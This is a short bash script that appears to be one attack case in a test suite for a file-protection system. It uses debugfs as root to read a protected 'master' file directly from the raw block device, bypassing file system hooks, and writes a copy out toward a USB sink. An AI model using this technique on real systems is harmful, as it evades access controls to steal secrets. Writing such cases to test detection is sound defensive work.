#!/usr/bin/env bash
# technique: debugfs reads the master from the raw disk, past the file system
# hooks: file_open (of a block device that holds masters)
# lock: vault
# sink: usb
# as: root

. attack.sh
where=$(on_disk "$MASTER")
debugfs -R "cat ${where#* }" "${where% *}" >"$COPY"
